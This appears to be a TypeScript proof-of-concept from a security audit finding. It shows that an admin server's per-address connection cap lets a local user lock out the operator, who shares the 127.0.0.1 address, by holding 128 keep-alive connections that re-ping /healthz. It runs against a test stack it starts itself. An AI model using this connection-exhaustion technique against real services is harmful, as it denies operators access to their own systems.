// Finding: the admin port's per-address cap protects an operator only from OTHER addresses. With the
// default ADMIN_HOST=127.0.0.1 every local user, and every `ssh -L` tunnel, is 127.0.0.1, the
// operator's own address: one local user holding ADMIN_MAX_CONNECTIONS_PER_ADDRESS (128) keep-alive
// connections, each re-asking the public /healthz every 4 s (32 requests a second in all, no token),
// gets every new connection of the operator reset for as long as it keeps going.
//
//   npx tsx findings/admin-same-address-lockout.ts
//
// Exit 1 (reproduced) when every sign-in attempt during the attack failed.

import { askFresh, raw, sleep, startStack, type Raw } from './lib/stack.js';

const ATTACK_SECONDS = Number(process.env['ATTACK_SECONDS'] ?? 30);

async function main(): Promise<number> {
  const stack = await startStack({ admin: {} });
  const admin = stack.admin!;
  const port = admin.server.port;
  const cap = admin.server.config.admin.maxConnectionsPerAddress;
  const token = admin.tokens['alice']!;
  const held: Raw[] = [];
  let stop = false;
  try {
    console.log(`before: operator GET /api/session -> ${await askFresh(port, '/api/session', { authorization: `Bearer ${token}` })}`);
    const ping = 'GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n';
    for (let i = 0; i < cap; i++) held.push(await raw(port, ping));
    console.log(`attacker holds ${held.length} keep-alive connections from 127.0.0.1`);
    // Keep each alive: a request every 4 s, inside the 5 s keep-alive idle deadline.
    const keeper = (async () => {
      while (!stop) {
        await sleep(4000);
        for (const h of held) if (!h.isClosed()) h.socket.write(ping);
      }
    })();
    const started = performance.now();
    let attempts = 0;
    let signedIn = 0;
    while (performance.now() - started < ATTACK_SECONDS * 1000) {
      const status = await askFresh(port, '/api/session', { authorization: `Bearer ${token}` });
      attempts++;
      if (status.includes(' 200 ')) signedIn++;
      if (attempts <= 3 || attempts % 10 === 0) console.log(`t=${((performance.now() - started) / 1000).toFixed(1)}s operator GET /api/session -> ${status}`);
      await sleep(1000);
    }
    stop = true;
    await keeper;
    const alive = held.filter((h) => !h.isClosed()).length;
    console.log(`attacker still holds ${alive}/${cap} connections after ${ATTACK_SECONDS}s (${cap / 4} requests/s, no token)`);
    console.log(`operator signed in ${signedIn} of ${attempts} times during the attack`);
    for (const h of held) h.socket.destroy();
    await sleep(500);
    console.log(`after: operator GET /api/session -> ${await askFresh(port, '/api/session', { authorization: `Bearer ${token}` })}`);
    const reproduced = signedIn === 0 && alive === cap;
    console.log(reproduced ? 'REPRODUCED: one address (the operator\'s own) locked the operator out' : 'not reproduced');
    return reproduced ? 1 : 0;
  } finally {
    stop = true;
    for (const h of held) h.socket.destroy();
    await stack.stop();
  }
}

main().then(
  (code) => process.exit(code),
  (e: unknown) => {
    console.error(e);
    process.exit(2);
  },
);
